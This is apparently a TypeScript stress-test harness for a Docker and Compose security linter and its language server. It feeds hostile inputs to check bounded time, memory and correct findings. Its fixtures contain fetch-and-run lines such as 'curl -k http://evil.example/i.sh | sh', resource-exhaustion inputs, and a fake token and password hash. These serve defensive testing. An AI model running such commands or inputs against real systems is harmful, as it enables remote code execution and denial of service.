/**
 * The held set of hostile cases: `node out/bench/hostile.js` (after `npm run build`).
 *
 * Each case builds its input in a fresh temporary folder, runs the bundled CLI or language server in a child
 * process bounded in time (3 s, `--timeout`) and memory (400 MB of peak RSS, `--max-rss`), and checks the
 * output: its size, and that the right findings are there (or the right refusal). Prints a Markdown table
 * (case, time, peak RSS, output size, findings right?) and exits 1 when a case fails.
 *
 * `--cli <file> --server <file>` run another build (e.g. an older checkout's dist/) for a before/after table;
 * `--only <substring>` picks cases.
 */
import { spawn, execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { parseDocument } from 'yaml';

const repo = path.resolve(__dirname, '..', '..');
const arg = (name: string, fallback: string) => {
  const i = process.argv.indexOf(name);
  return i >= 0 && process.argv[i + 1] ? process.argv[i + 1] : fallback;
};
const CLI = path.resolve(arg('--cli', path.join(repo, 'dist', 'cli.js')));
const SERVER = path.resolve(arg('--server', path.join(repo, 'dist', 'server.js')));
const TIMEOUT_MS = Number(arg('--timeout', '3000'));
const MAX_RSS_MB = Number(arg('--max-rss', '400'));
const ONLY = arg('--only', '');

interface Run {
  status: number | null;
  stdout: string;
  stderr: string;
  ms: number;
  /** Peak resident memory of the child, MB (undefined when it was killed before it could say). */
  rssMb?: number;
  timedOut: boolean;
}

interface Case {
  name: string;
  /** What the case is (the issue's wording, or what the review found). */
  what: string;
  run(dir: string): Promise<Run>;
  /** Undefined when the output is right, else why not. */
  check(r: Run, dir: string): string | undefined;
  /** Output bound, bytes (stdout + stderr). */
  maxOutput?: number;
}

/** Node with a preload that writes the process's resource usage to fd 3 when it exits. */
const PRELOAD = path.join(os.tmpdir(), `dw-hostile-rusage-${process.pid}.js`);
fs.writeFileSync(
  PRELOAD,
  "const fs = require('fs'); process.on('exit', () => { try { fs.writeSync(3, JSON.stringify(process.resourceUsage())); } catch {} });\n",
);

function child(
  script: string,
  args: string[],
  cwd: string,
  opts: { env?: Record<string, string>; stdin?: (w: NodeJS.WritableStream) => void } = {},
): Promise<Run> {
  return new Promise((resolve) => {
    const t0 = performance.now();
    const proc = spawn(process.execPath, ['--require', PRELOAD, script, ...args], {
      cwd,
      env: { PATH: process.env.PATH ?? '', HOME: os.tmpdir(), ...opts.env },
      stdio: ['pipe', 'pipe', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    let usage = '';
    let outBytes = 0;
    proc.stdout!.on('data', (b: Buffer) => {
      outBytes += b.length;
      if (outBytes < 64 * 1024 * 1024) stdout += String(b);
    });
    proc.stderr!.on('data', (b: Buffer) => (stderr += String(b)));
    (proc.stdio[3] as NodeJS.ReadableStream).on('data', (b: Buffer) => (usage += String(b)));
    proc.stdin!.on('error', () => undefined);
    if (opts.stdin) opts.stdin(proc.stdin!);
    else proc.stdin!.end();
    let timedOut = false;
    const timer = setTimeout(() => {
      timedOut = true;
      proc.kill('SIGKILL');
    }, TIMEOUT_MS * 5);
    proc.on('close', (status) => {
      clearTimeout(timer);
      let rssMb: number | undefined;
      try {
        rssMb = (JSON.parse(usage) as { maxRSS: number }).maxRSS / 1024;
      } catch {
        rssMb = undefined;
      }
      resolve({ status, stdout, stderr, ms: performance.now() - t0, rssMb, timedOut });
    });
  });
}

const cli = (dir: string, args: string[], env?: Record<string, string>) => child(CLI, args, dir, { env });
const json = (r: Run) => {
  try {
    return JSON.parse(r.stdout) as { files: string[]; findings: { file: string; rule: string; message: string }[] };
  } catch {
    return undefined;
  }
};
const hasRules = (r: Run, rules: string[], file?: string): string | undefined => {
  const report = json(r);
  if (!report) return `no JSON (exit ${r.status}): ${r.stderr.slice(0, 200)}`;
  const missing = rules.filter((id) => !report.findings.some((f) => f.rule === id && (!file || f.file === file)));
  return missing.length ? `missing ${missing.join(', ')}` : undefined;
};
const write = (dir: string, files: Record<string, string>) => {
  for (const [name, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
    fs.writeFileSync(path.join(dir, name), text);
  }
};
const J = ['--format', 'json', '--fail-on', 'none'];

/** One LSP session: frames written as given, then a valid request; the outcome is an exit or an answer. */
function lsp(dir: string, input: string): Promise<Run> {
  const body = JSON.stringify({
    jsonrpc: '2.0',
    id: 1,
    method: 'initialize',
    params: { processId: null, rootUri: null, capabilities: {} },
  });
  return child(SERVER, ['--stdio'], dir, {
    stdin: (w) => {
      w.write(input);
      setTimeout(() => w.write(`Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`), 100);
      // Closed after the bound: a server that exits by itself does so well before.
      setTimeout(() => w.end(), TIMEOUT_MS);
    },
  });
}

const doubling = (prefix: string, n: number, first: string) => {
  const lines = [`${prefix}A0${first}xx`];
  for (let i = 1; i < n; i++) lines.push(`${prefix}A${i}${first}\${A${i - 1}}\${A${i - 1}}`);
  return lines.join('\n') + '\n';
};

const CASES: Case[] = [
  {
    name: 'run-over-64k',
    what: 'RUN curl -k http://… | sh && echo pad × 16,400',
    run: (d) => (
      write(d, {
        Dockerfile: `FROM debian:12.5\nRUN curl -k http://evil.example/i.sh | sh && echo ${'pad '.repeat(16_400)}\nUSER 10001\n`,
      }),
      cli(d, [...J, 'Dockerfile'])
    ),
    check: (r) => hasRules(r, ['remote-script-piped-to-shell', 'tls-verification-disabled', 'insecure-download']),
  },
  {
    name: 'run-over-128k',
    what: 'RUN of 200 KB (past the limit)',
    run: (d) => (
      write(d, { Dockerfile: `FROM debian:12.5\nRUN curl http://x.example/i | sh && echo ${'pad '.repeat(50_000)}\nUSER 10001\n` }),
      cli(d, [...J, 'Dockerfile'])
    ),
    check: (r) => hasRules(r, ['analysis-limit']),
  },
  {
    name: 'run-nested-5000',
    what: 'RUN curl … | sh; ((((…5,000…))))',
    run: (d) => (
      write(d, {
        Dockerfile: `FROM debian:12.5\nRUN curl http://x.example/i | sh; ${'('.repeat(5000)}true${')'.repeat(5000)}\nUSER 10001\n`,
      }),
      cli(d, [...J, 'Dockerfile'])
    ),
    check: (r) => hasRules(r, ['analysis-limit']),
  },
  {
    name: 'extends-defaults-conf',
    what: 'extends.file: defaults.conf',
    run: (d) => (
      write(d, {
        'compose.yaml': 'services:\n  web:\n    image: nginx:1.25\n    extends:\n      file: defaults.conf\n      service: base\n',
        'defaults.conf': 'services:\n  base:\n    privileged: true\n',
      }),
      cli(d, [...J, '.'])
    ),
    check: (r) => hasRules(r, ['privileged'], 'defaults.conf'),
  },
  {
    name: 'compose-file-prod-override',
    what: 'COMPOSE_FILE=compose.yaml:prod.override',
    run: (d) => (
      write(d, {
        '.env': 'COMPOSE_FILE=compose.yaml:prod.override\n',
        'compose.yaml': 'services:\n  web:\n    image: nginx:1.25\n',
        'prod.override': 'services:\n  web:\n    privileged: true\n',
      }),
      cli(d, [...J, '.'])
    ),
    check: (r) => hasRules(r, ['privileged'], 'prod.override'),
  },
  {
    name: 'arg-doubling-28',
    what: '28 lines of ARG A{i}=${A{i-1}}${A{i-1}} (560 bytes)',
    maxOutput: 100_000,
    run: (d) => (
      write(d, { Dockerfile: `FROM debian:12.5\n${doubling('ARG ', 28, '=')}USER \${A27}\nENV X=\${A27}\n` }),
      cli(d, [...J, 'Dockerfile'])
    ),
    check: (r) => hasRules(r, ['analysis-limit']),
  },
  {
    name: 'services-20000',
    what: '20,000 one-line services (400 KB)',
    maxOutput: 80 * 1024 * 1024,
    run: (d) => (
      write(d, { 'compose.yaml': `services:\n${Array.from({ length: 20_000 }, (_, i) => `  s${i}: {image: nginx}`).join('\n')}\n` }),
      cli(d, [...J, 'compose.yaml'])
    ),
    // Two findings per service by default (recommended profile): image-unpinned and pids-limit-missing.
    check: (r) => ((json(r)?.findings.length ?? 0) >= 40_000 ? undefined : `exit ${r.status}: ${r.stderr.slice(0, 200)}`),
  },
  {
    name: 'fix-dry-run-2000',
    what: '--fix --dry-run, 2,000 services with a port each (90 KB)',
    maxOutput: 2 * 1024 * 1024,
    run: (d) => (
      write(d, {
        'compose.yaml': `services:\n${Array.from({ length: 2000 }, (_, i) => `  s${i}:\n    image: nginx:1\n    ports: ["80${i % 10}:80"]`).join('\n')}\n`,
      }),
      cli(d, ['--fix', '--unsafe-fixes', '--dry-run', 'compose.yaml'])
    ),
    check: (r) =>
      r.status === 0 && (r.stdout.match(/^\+ {4}ports: \["127\.0\.0\.1:/gm) ?? []).length === 2000
        ? undefined
        : `exit ${r.status}, ${r.stdout.length} bytes`,
  },
  {
    name: 'run-64-words-4095',
    what: 'RUN of 64 words of 4,095 characters',
    run: (d) => (
      write(d, {
        Dockerfile: `FROM debian:12.5\nRUN echo ${`${'w'.repeat(4095)} `.repeat(64)}&& curl -k https://x.example/a\nUSER 10001\n`,
      }),
      cli(d, [...J, 'Dockerfile'])
    ),
    check: (r) => hasRules(r, ['tls-verification-disabled']),
  },
  {
    name: 'dotenv-40000-newlines',
    what: '.env of 40,000 line breaks then x',
    run: (d) => (
      write(d, { '.env': `${'\n'.repeat(40_000)}x`, 'compose.yaml': 'services:\n  web:\n    image: nginx:${TAG:-1.25}\n' }),
      cli(d, [...J, '.'])
    ),
    check: (r) => hasRules(r, ['image-no-digest']),
  },
  {
    name: 'config-40000-rule-keys',
    what: 'a config with 40,000 rule keys',
    run: (d) => (
      write(d, {
        '.dockwarden.yaml':
          ['rules:', ...Array.from({ length: 40_000 }, (_, i) => `  host-${i}*: warning`), '  privileged: info'].join('\n') + '\n',
        'compose.yaml': 'services:\n  web:\n    image: nginx:1.25\n    privileged: true\n',
      }),
      cli(d, [...J, '.'])
    ),
    check: (r) => (json(r)?.findings.some((f) => f.rule === 'privileged') ? undefined : `exit ${r.status}: ${r.stderr.slice(0, 200)}`),
  },
  {
    name: 'config-40000-unknown-keys',
    what: 'a config with 40,000 unknown rule keys',
    maxOutput: 20_000,
    run: (d) => (
      write(d, {
        '.dockwarden.yaml': ['rules:', ...Array.from({ length: 40_000 }, (_, i) => `  unknown-rule-${i}: warning`)].join('\n') + '\n',
        'compose.yaml': 'services: {}\n',
      }),
      cli(d, [...J, '.'])
    ),
    check: (r) => (r.status === 2 && /more errors|was not read/.test(r.stderr) ? undefined : `exit ${r.status}`),
  },
  {
    name: 'baseline-dev-zero',
    what: '--baseline /dev/zero',
    run: (d) => (write(d, { 'compose.yaml': 'services: {}\n' }), cli(d, ['--baseline', '/dev/zero', '.'])),
    check: (r) => (r.status === 2 && /not a regular file/.test(r.stderr) ? undefined : `exit ${r.status}`),
  },
  {
    name: 'baseline-fifo',
    what: '--baseline naming a FIFO',
    run: (d) => (
      write(d, { 'compose.yaml': 'services: {}\n' }),
      execFileSync('mkfifo', [path.join(d, 'b.json')]),
      cli(d, ['--baseline', 'b.json', '.'])
    ),
    check: (r) => (r.status === 2 && /not a regular file/.test(r.stderr) ? undefined : `exit ${r.status}`),
  },
  {
    name: 'baseline-symlink-secret',
    what: '--baseline through a symlink to a secret outside',
    run: (d) => {
      write(d, { secret: 'root:$6$SECRETHASH:19000::::::\n', 'ws/compose.yaml': 'services: {}\n' });
      fs.symlinkSync(path.join(d, 'secret'), path.join(d, 'ws', 'baseline.json'));
      return cli(path.join(d, 'ws'), ['--baseline', 'baseline.json', '.']);
    },
    check: (r) =>
      r.status === 2 && !r.stderr.includes('SECRETHASH') && /symbolic link/.test(r.stderr)
        ? undefined
        : `exit ${r.status}: ${r.stderr.slice(0, 120)}`,
  },
  {
    name: 'fix-through-symlink',
    what: '--fix on a compose file that links outside',
    run: (d) => {
      write(d, { 'target/compose.yaml': 'services:\n  web:\n    image: nginx:1.25\n    privileged: true\n', 'ws/.keep': '' });
      fs.symlinkSync(path.join(d, 'target', 'compose.yaml'), path.join(d, 'ws', 'compose.yaml'));
      return cli(path.join(d, 'ws'), ['--fix', '--unsafe-fixes', '.']);
    },
    check: (r, d) =>
      r.status === 2 && /privileged: true/.test(fs.readFileSync(path.join(d, 'target', 'compose.yaml'), 'utf8'))
        ? undefined
        : `exit ${r.status}, outside file changed?`,
  },
  {
    name: 'env-token-in-sarif',
    what: 'image: alpine:${CI_TOKEN} with CI_TOKEN in the environment, SARIF',
    run: (d) => (
      write(d, { 'compose.yaml': 'services:\n  web:\n    image: alpine:${CI_TOKEN}\n' }),
      cli(d, ['--format', 'sarif', '--fail-on', 'none', '.'], { CI_TOKEN: 'ghp_SECRET0123456789' })
    ),
    check: (r) => (r.status === 0 && !r.stdout.includes('ghp_SECRET') && r.stdout.includes('${CI_TOKEN}') ? undefined : 'token printed'),
  },
  {
    name: 'exec-form-fix',
    what: 'fix of RUN ["curl", "-k", "https://…"]',
    run: (d) => (
      write(d, { Dockerfile: 'FROM debian:12.5\nRUN ["curl", "-k", "https://x.example/a"]\nUSER 10001\n' }),
      cli(d, ['--fix', '--unsafe-fixes', 'Dockerfile'])
    ),
    check: (_r, d) => {
      const line = fs.readFileSync(path.join(d, 'Dockerfile'), 'utf8').split('\n')[1];
      try {
        return JSON.stringify(JSON.parse(line.slice(4))) === '["curl","https://x.example/a"]' ? undefined : line;
      } catch {
        return `invalid JSON: ${line}`;
      }
    },
  },
  {
    name: 'keep-chomping-fix',
    what: 'command: |+ at the end of the file, then --fix',
    run: (d) => (
      write(d, { 'compose.yaml': 'services:\n  web:\n    image: nginx:1.25\n    command: |+\n      echo hi\n\n\n' }),
      cli(d, ['--fix', 'compose.yaml'])
    ),
    check: (_r, d) => {
      const v = (parseDocument(fs.readFileSync(path.join(d, 'compose.yaml'), 'utf8')).toJS() as { services: { web: { command: string } } })
        .services.web.command;
      return v === 'echo hi\n\n\n' ? undefined : JSON.stringify(v);
    },
  },
  ...(['abc', '-5'] as const).map((v): Case => ({
    name: `lsp-content-length-${v}`,
    what: `language server: Content-Length: ${v}`,
    run: (d) => lsp(d, `Content-Length: ${v}\r\n\r\n{}`),
    check: (r) => (r.status === 1 && r.ms < TIMEOUT_MS ? undefined : `exit ${r.status} after ${r.ms.toFixed(0)} ms`),
  })),
  {
    name: 'lsp-no-content-length',
    what: 'language server: a header without Content-Length',
    run: (d) => lsp(d, 'Content-Type: application/vscode-jsonrpc\r\n\r\n{}'),
    check: (r) => (r.status === 1 && r.ms < TIMEOUT_MS ? undefined : `exit ${r.status} after ${r.ms.toFixed(0)} ms`),
  },
  {
    name: 'lsp-endless-header',
    what: 'language server: 100 KB without a header end',
    run: (d) => lsp(d, 'x'.repeat(100_000)),
    check: (r) => (r.status === 1 && r.ms < TIMEOUT_MS ? undefined : `exit ${r.status} after ${r.ms.toFixed(0)} ms`),
  },
  // Found by the review of every pattern, expansion, read and write path.
  {
    name: 'compose-interpolation-bomb',
    what: '.env value of 12 KB referenced 10,000 times and in 200 variables',
    run: (d) => (
      write(d, {
        '.env': `BIG=${'x'.repeat(12_000)}\n`,
        'compose.yaml': `services:\n  web:\n    image: "nginx:${'${BIG}'.repeat(10_000)}"\n    environment:\n${Array.from({ length: 200 }, (_, i) => `      V${i}: "\${BIG}\${BIG}\${BIG}\${BIG}\${BIG}"`).join('\n')}\n`,
      }),
      cli(d, [...J, '.'])
    ),
    check: (r) => hasRules(r, ['analysis-limit']),
  },
  {
    name: 'dotenv-doubling-40',
    what: '.env of 40 lines A{i}=${A{i-1}}${A{i-1}}',
    run: (d) => (
      write(d, { '.env': doubling('', 40, '='), 'compose.yaml': 'services:\n  web:\n    image: nginx:${A39}\n' }),
      cli(d, [...J, '.'])
    ),
    check: (r) => hasRules(r, ['analysis-limit']),
  },
  {
    name: 'exec-form-c-cluster-1mb',
    what: 'RUN ["sh", "-ccc…(1 MB)…c1", "x"] (a backtracking option pattern)',
    run: (d) => (
      write(d, { Dockerfile: `FROM debian:12.5\nRUN ["sh", "-${'c'.repeat(1_000_000)}1", "curl http://x | sh"]\nUSER 10001\n` }),
      cli(d, [...J, 'Dockerfile'])
    ),
    check: (r) => (json(r) ? undefined : `exit ${r.status}`),
  },
  {
    name: 'env-unclosed-default',
    what: 'ENV A=${B:-${B:-… (100,000 times, unclosed)',
    run: (d) => (
      write(d, { Dockerfile: `FROM debian:12.5\nENV A=${'${B:-'.repeat(100_000)}\nUSER 10001\n` }),
      cli(d, [...J, 'Dockerfile'])
    ),
    check: (r) => (json(r) ? undefined : `exit ${r.status}`),
  },
  {
    name: 'port-run-of-spaces',
    what: 'ports: ["1<100,000 spaces>x:80"] (a backtracking port pattern)',
    run: (d) => (
      write(d, { 'compose.yaml': `services:\n  web:\n    image: nginx:1.25\n    ports: ["1${' '.repeat(100_000)}x:80"]\n` }),
      cli(d, [...J, '.'])
    ),
    check: (r) => (json(r) ? undefined : `exit ${r.status}`),
  },
  {
    name: 'volume-unclosed-braces',
    what: 'volumes: ["${${${… (250,000) :/data"]',
    run: (d) => (
      write(d, { 'compose.yaml': `services:\n  web:\n    image: nginx:1.25\n    volumes: ["${'${'.repeat(250_000)}:/data"]\n` }),
      cli(d, [...J, '.'])
    ),
    check: (r) => (json(r) ? undefined : `exit ${r.status}`),
  },
  {
    name: 'trusted-registry-glob',
    what: 'trustedRegistries entry of 50,000 × "/*", 2,000 services',
    maxOutput: 8 * 1024 * 1024,
    run: (d) => (
      write(d, {
        '.dockwarden.yaml': `trustedRegistries:\n  - "ghcr.io${'/*'.repeat(50_000)}x"\n  - "ghcr.io${'/'.repeat(100_000)}x"\n`,
        'compose.yaml': `services:\n${Array.from({ length: 2000 }, (_, i) => `  s${i}: {image: "nginx:1.25"}`).join('\n')}\n`,
      }),
      cli(d, [...J, '.'])
    ),
    check: (r) => hasRules(r, ['untrusted-registry', 'network-none-suggested']),
  },
  {
    name: 'pipeline-4000-curls',
    what: 'RUN curl x | curl x | … (4,000) | sh',
    maxOutput: 2 * 1024 * 1024,
    run: (d) => (
      write(d, { Dockerfile: `FROM debian:12.5\nRUN ${'curl http://x.example/ | '.repeat(4000)}sh\nUSER 10001\n` }),
      cli(d, [...J, 'Dockerfile'])
    ),
    check: (r) => hasRules(r, ['remote-script-piped-to-shell']),
  },
  {
    name: 'suppressions-10000',
    what: '10,000 suppression comments and 10,000 findings',
    maxOutput: 32 * 1024 * 1024,
    run: (d) => (
      write(d, {
        'compose.yaml': `services:\n${Array.from({ length: 10_000 }, (_, i) => `  # dockwarden-ignore privileged\n  s${i}: {image: "nginx:1.25", privileged: true}`).join('\n')}\n`,
      }),
      cli(d, [...J, '.'])
    ),
    check: (r) => {
      const report = json(r);
      return report && !report.findings.some((f) => f.rule === 'privileged') ? undefined : `exit ${r.status}`;
    },
  },
  {
    name: 'long-image-name-message',
    what: 'image name of 1 MB: a bounded message',
    maxOutput: 100_000,
    run: (d) => (
      write(d, { 'compose.yaml': `services:\n  web:\n    image: registry.example/${'a'.repeat(1_000_000)}\n` }),
      cli(d, [...J, '.'])
    ),
    check: (r) => hasRules(r, ['image-unpinned']),
  },
];

async function main(): Promise<void> {
  const rows: string[] = [];
  let failed = 0;
  for (const c of CASES) {
    if (ONLY && !c.name.includes(ONLY)) continue;
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), `dw-hostile-${c.name}-`));
    const r = await c.run(dir);
    const out = Buffer.byteLength(r.stdout) + Buffer.byteLength(r.stderr);
    const problems: string[] = [];
    if (r.timedOut) problems.push(`killed after ${(TIMEOUT_MS * 5) / 1000} s`);
    else if (r.ms > TIMEOUT_MS) problems.push(`${(r.ms / 1000).toFixed(1)} s > ${TIMEOUT_MS / 1000} s`);
    if (r.rssMb !== undefined && r.rssMb > MAX_RSS_MB) problems.push(`${r.rssMb.toFixed(0)} MB > ${MAX_RSS_MB} MB`);
    if (out > (c.maxOutput ?? 1024 * 1024)) problems.push(`output ${out} B`);
    const wrong = r.timedOut ? 'no result' : c.check(r, dir);
    if (wrong) problems.push(wrong);
    if (problems.length) failed++;
    const rss = r.rssMb === undefined ? '—' : `${r.rssMb.toFixed(0)} MB`;
    rows.push(
      `| ${c.name} | ${c.what.replace(/\|/g, '\\|')} | ${(r.ms / 1000).toFixed(2)} s | ${rss} | ${formatBytes(out)} | ${problems.length ? `**no**: ${problems.join('; ').replace(/\|/g, '\\|')}` : 'yes'} |`,
    );
    process.stderr.write(`${rows[rows.length - 1]}\n`);
    fs.rmSync(dir, { recursive: true, force: true });
  }
  console.log(`Hostile cases — ${CLI}, ${SERVER}; bounds ${TIMEOUT_MS / 1000} s, ${MAX_RSS_MB} MB\n`);
  console.log('| case | input | time | peak RSS | output | right? |');
  console.log('|---|---|---|---|---|---|');
  for (const r of rows) console.log(r);
  console.log(`\n${rows.length - failed} of ${rows.length} cases within bounds and right`);
  fs.rmSync(PRELOAD, { force: true });
  process.exitCode = failed ? 1 : 0;
}

function formatBytes(n: number): string {
  return n < 1024 ? `${n} B` : n < 1024 * 1024 ? `${(n / 1024).toFixed(1)} KB` : `${(n / 1024 / 1024).toFixed(1)} MB`;
}

void main();
